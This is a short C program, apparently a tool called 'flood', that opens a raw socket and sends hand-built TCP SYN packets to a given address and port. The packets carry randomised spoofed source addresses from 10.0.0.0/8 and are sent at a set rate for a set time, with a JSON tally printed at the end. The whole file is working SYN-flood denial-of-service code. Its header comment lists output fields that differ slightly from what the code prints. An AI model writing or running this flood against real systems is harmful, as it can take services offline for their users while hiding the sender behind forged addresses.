/*
 * Sends SYNs with made-up sources from a raw socket, at a pace.
 * flood ADDRESS PORT PER_SECOND SECONDS
 * Sources are of 10.0.0.0/8. Prints {"sent", "seconds"}.
 */
#include <netinet/in.h>
#include <sys/socket.h>

#include "wire.h"

int main(int argc, char **argv) {
  if (argc != 5) return 2;
  double pace = atof(argv[3]);
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), buffer = 1 << 24;
  if (fd < 0) die("socket");
  setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof buffer);
  struct sockaddr_in to = {.sin_family = AF_INET};
  inet_pton(AF_INET, argv[1], &to.sin_addr);
  uint8_t packet[44];
  memset(packet, 0, sizeof packet);
  packet[0] = 0x45, packet[8] = 64, packet[9] = 6, packet[12] = 10;
  memcpy(packet + 16, &to.sin_addr, 4);
  put16(packet + 22, (uint16_t)atoi(argv[2]));
  packet[32] = 6 << 4, packet[33] = 2, packet[40] = 2, packet[41] = 4;
  put16(packet + 34, 0xffff);
  put16(packet + 42, 1460);
  uint64_t random = 88172645463325252ull;
  long sent = 0, refused = 0;
  double start = now_s(), end = start + atof(argv[4]), now;
  while ((now = now_s()) < end) {
    long wanted = (long)((now - start) * pace);
    if (sent + refused >= wanted) {
      struct timespec nap = {0, 200000};
      nanosleep(&nap, NULL);
      continue;
    }
    for (int i = 0; i < 256 && sent + refused < wanted; i++) {
      random ^= random << 13, random ^= random >> 7, random ^= random << 17;
      memcpy(packet + 13, &random, 3);
      packet[20] = (uint8_t)(random >> 24 | 4), packet[21] = (uint8_t)(random >> 32);
      put32(packet + 24, (uint32_t)(random >> 29));
      seal(packet, 44);
      if (sendto(fd, packet, 44, 0, (struct sockaddr *)&to, sizeof to) < 0) refused++;
      else sent++;
    }
  }
  printf("{\"sent\":%ld,\"refused\":%ld,\"seconds\":%.6f}\n", sent, refused, now_s() - start);
  return 0;
}
